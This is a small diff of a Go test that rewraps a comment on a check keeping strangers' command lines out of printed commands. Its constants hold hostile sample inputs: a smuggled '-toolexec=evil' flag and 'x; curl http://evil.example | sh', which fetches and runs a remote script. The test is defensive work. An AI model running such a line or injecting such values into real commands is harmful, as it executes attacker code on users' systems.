@@ -38,8 +38,8 @@ func keep(t *testing.T, run, comparison string) (l *ledger.Ledger, runID, compar
 	return l, r.ID(), c.ID()
 }
 
-// Commands of a document are those of the user's own runs and comparisons. What a stranger's names is no part of a command that is
-// printed: neither a command line, nor a file, nor the name of another run that is none.
+// Commands of a document are those of the user's own runs and comparisons. What a stranger's names is no part of a
+// command that is printed: neither a command line, nor a file, nor the name of another run that is none.
 func TestNoCommandOfAStranger(t *testing.T) {
 	const line, evil = `"asked_by":["run","./x","--flags=-toolexec=evil"]`, `x; curl http://evil.example | sh`
 	doc := func(schema, fields string) string {
